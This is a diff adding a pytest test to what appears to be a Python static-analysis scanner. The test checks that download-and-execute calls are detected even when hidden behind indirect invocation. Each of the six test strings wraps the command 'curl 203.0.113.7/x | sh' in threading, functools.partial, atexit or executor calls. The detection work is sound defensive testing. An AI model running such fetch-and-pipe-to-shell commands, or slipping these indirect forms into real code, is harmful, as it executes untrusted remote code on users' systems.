@@ -642,3 +642,22 @@ def test_a_command_that_is_run_through_the_c_library_is_run(code: str) -> None:
     found = [fact for fact in read_python(code) if fact.act is Act.RUN_REMOTE]
 
     assert [fact.host for fact in found] == ["203.0.113.7"]
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "threading.Timer(1, os.system, ['curl 203.0.113.7/x | sh']).start()",
+        "threading.Thread(target=os.system, args=('curl 203.0.113.7/x | sh',)).start()",
+        "functools.partial(os.system, 'curl 203.0.113.7/x | sh')()",
+        "atexit.register(os.system, 'curl 203.0.113.7/x | sh')",
+        "executor.submit(subprocess.getoutput, 'curl 203.0.113.7/x | sh')",
+        "loop.run_in_executor(None, os.system, 'curl 203.0.113.7/x | sh')",
+    ],
+)
+def test_a_function_that_is_passed_with_its_arguments_is_called(call: str) -> None:
+    code = f"import atexit, functools, os, subprocess, threading\n{call}"
+
+    found = [fact for fact in read_python(code) if fact.act is Act.RUN_REMOTE]
+
+    assert [fact.host for fact in found] == ["203.0.113.7"]
